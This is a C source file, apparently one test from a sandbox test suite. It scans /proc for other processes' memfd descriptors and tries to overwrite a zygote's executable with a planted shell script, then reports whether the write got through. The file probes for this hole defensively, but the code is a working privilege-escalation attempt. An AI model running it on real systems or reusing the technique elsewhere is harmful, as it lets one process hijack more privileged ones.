// tries: to replace the program that a zygote executes with more rights for each run: by its descriptor in /proc
// must: open no such file for writing, and change none
#include "../attack.h"

#include <dirent.h>

static const char planted[] = "#!/bin/sh\nexec sleep 1000\n";

static void try_descriptor(const char* pid, const char* number) {
  char path[600], link[200];
  snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, number);
  const ssize_t n = readlink(path, link, sizeof link - 1);
  if (n <= 0) return;
  link[n] = '\0';
  if (strstr(link, "memfd:") == NULL) return;
  const int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd >= 0 && pwrite(fd, planted, sizeof planted - 1, 0) > 0)
    hole("%s is called %s and was written to", path, link);
  else
    held("%s is called %s: %s", path, link, strerror(errno));
  if (fd >= 0) close(fd);
}

int main(void) {
  DIR* processes = opendir("/proc");
  for (struct dirent* process; processes != NULL && (process = readdir(processes)) != NULL;) {
    if (atoi(process->d_name) <= 0 || atoi(process->d_name) == getpid()) continue;
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/fd", process->d_name);
    DIR* descriptors = opendir(path);
    if (descriptors == NULL) continue;
    for (struct dirent* entry; (entry = readdir(descriptors)) != NULL;)
      if (entry->d_name[0] != '.') try_descriptor(process->d_name, entry->d_name);
    closedir(descriptors);
  }
  held("all that can be seen");
  return done();
}
